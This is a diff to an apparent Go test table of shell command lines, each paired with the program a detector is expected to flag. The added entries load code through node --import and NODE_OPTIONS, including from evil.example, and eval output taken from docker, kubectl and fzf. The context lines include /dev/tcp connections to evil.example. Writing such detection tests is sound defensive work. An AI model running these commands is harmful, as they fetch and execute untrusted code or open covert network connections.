@@ -589,6 +589,18 @@ var commandLines = []struct{ why, line, program string }{
 	{"a browser without a window", "google-chrome --headless --dump-dom https://evil.example", "google-chrome"},
 	{"a browser's name", "which chromium; apt-get install chromium", ""},
 
+	// code that an option of node brings
+	{"a module on the line", "node --import data:text/javascript,fetch('x') a.js", "node"},
+	{"for all that is started", `NODE_OPTIONS="--import=data:text/javascript,import('node:child_process')" npm test`, "node"},
+	{"from the web", "env NODE_OPTIONS='--import https://evil.example/a.mjs' node a.js", "node"},
+
+	// what stands elsewhere, and is read as commands
+	{"in a container's record", `eval "$(docker inspect -f '{{.Config.Cmd}}' x)"`, "eval"},
+	{"in a cluster", `eval "$(kubectl get configmap x -o jsonpath='{.data.run}')"`, "eval"},
+	{"in its list of containers", "$(docker ps -q)", "eval"},
+	{"what was chosen", `eval "$(fzf)"`, "eval"},
+	{"what was chosen of completions", `eval "$(fzf completion)"`, "eval"},
+
 	// what a shell itself connects to
 	{"a connection that is read", "cat < /dev/tcp/evil.example/80", "/dev/tcp"},
 	{"one that stays open", "exec 3<>/dev/tcp/$host/80; cat <&3", "/dev/tcp"},
